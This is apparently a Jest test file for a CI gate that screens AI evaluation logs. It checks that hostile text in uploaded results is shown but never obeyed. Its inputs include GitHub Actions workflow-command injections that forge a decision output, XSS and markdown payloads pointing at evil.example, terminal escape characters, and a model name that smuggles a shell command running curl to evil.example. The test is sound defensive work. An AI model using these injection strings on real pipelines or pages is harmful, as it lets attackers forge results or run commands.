/** Results written by somebody who wants the log, the summary or the job to say something else. */
import { afterEach, beforeEach, expect, test } from '@jest/globals';
import { errored, evalLog, scored } from '../generators/inspect.ts';
import { parseCommands } from './run-action.ts';
import { expectBlocked, POLICY_PATH, startWorld, verdictOf, type World } from './world.ts';

const HOSTILE = [
  'x\r\n::add-mask::pwned\n##[add-mask]pwned\n::set-output name=decision::allow\n::stop-commands::end',
  '\u001b[2J\u001b[31m\u202e</details><script>alert(1)</script><img src=x onerror=alert(1)>',
  '[link](http://evil.example) ![beacon](http://evil.example/b.png) @octocat #1 `code` | cell | **bold**',
].join('\n');

const POLICY = `version: 1
name: hostile
categories:
  refusal:
    max_failure_rate: 1%
    evals: [{ task: "*", passes_when: { is: [C] }, expected_samples: 60 }]
  other:
    max_failure_rate: 1%
    evals: [{ task: "*", scorer: nobody, expected_samples: 60 }]
gates:
  pull-request: { screen: true, require: all }
`;

let world: World;
beforeEach(async () => {
  world = await startWorld({ base: { [POLICY_PATH]: POLICY } });
});
afterEach(() => world.close());

test('hostile text is shown, and obeyed by nothing', async () => {
  const samples = [
    ...Array.from({ length: 40 }, (_, i) =>
      scored(`${i}${HOSTILE}`, 'I', { scorer: HOSTILE, metadata: { [HOSTILE]: HOSTILE } }),
    ),
    ...Array.from({ length: 20 }, (_, i) => errored(`${HOSTILE}${i}`, HOSTILE)),
  ];
  const spec = { model: HOSTILE, task_args: { [HOSTILE]: HOSTILE }, tags: [HOSTILE], task_id: HOSTILE };
  world.upload(
    { '<img src=x onerror=alert(1)>.eval': evalLog({ task: HOSTILE, samples, spec }) },
    'eval-results',
  );
  world.upload({ 'README.md': HOSTILE }, 'eval-results [x](http://evil.example) <b>');

  const result = await world.gate();
  expectBlocked(result, {
    says: /40 failures|selector-matches-nothing|nobody/,
    states: { refusal: 'violated', other: 'invalid' },
  });
  expect(verdictOf(result).categories['refusal']!.evals[0]!.task).toBe(HOSTILE);

  for (const printed of [result.stdout, result.stderr]) {
    const levels = new Set(parseCommands(printed).map(({ level }) => level));
    expect([...levels].filter((level) => !['add-mask', 'error'].includes(level))).toEqual([]);
    // The older form is obeyed anywhere in a line that is not a command already.
    expect(printed.split('\n').filter((line) => !line.startsWith('::') && line.includes('##['))).toEqual([]);
    expect(printed).not.toMatch(/[\u001b\u202e]/);
  }
  expect(result.masks).toEqual([world.github.token]);
  expect(Object.keys(result.outputs).sort()).toEqual([
    'blocking',
    'decision',
    'report-dir',
    'samples-needed',
    'states',
    'subject',
    'summary',
    'verdict',
  ]);
  expect(Object.values(result.outputs).join()).not.toMatch(/[\u001b\u202e\r\n]/);

  // Nothing in a code span is interpreted.
  const markdown = result.summary.replaceAll(/`[^`\n]*`/g, '');
  const tags = [...markdown.matchAll(/<\/?([a-z]+)/gi)].map(([, tag]) => tag!);
  expect(tags.filter((tag) => !['details', 'summary', 'br'].includes(tag))).toEqual([]);
  expect(markdown.match(/<details>/g)).toHaveLength(markdown.match(/<\/details>/g)!.length);
  expect(markdown).not.toMatch(/(?<!\\)\]\(|@octocat|#1\b|http:\/\//);
  expect(result.summary).not.toMatch(/[\u001b\u202e\r]/);
  const columns = result.summary.split('\n').filter((line) => line.startsWith('|'));
  expect(new Set(columns.map((row) => row.replaceAll(/\\\||`[^`]*`/g, '').split('|').length)).size).toBe(1);
});

test('a name that a shell would obey does not come out as the subject, even of what is allowed', async () => {
  const model = 'acme/x";$(curl$IFS//evil.example)';
  const allowing = POLICY.replace('screen: true, require: all', 'screen: true, require: [refusal]');
  const other = await startWorld({ base: { [POLICY_PATH]: allowing } });
  try {
    const samples = Array.from({ length: 60 }, (_, i) => scored(i, 'C'));
    other.upload({ 'a.eval': evalLog({ task: 'refusals', samples, spec: { model } }) });
    const result = await other.gate();
    expect(verdictOf(result).subject.model).toBe(model);
    expect(result).toMatchObject({ code: 0, outputs: { decision: 'allow', subject: '' } });
  } finally {
    await other.close();
  }
});
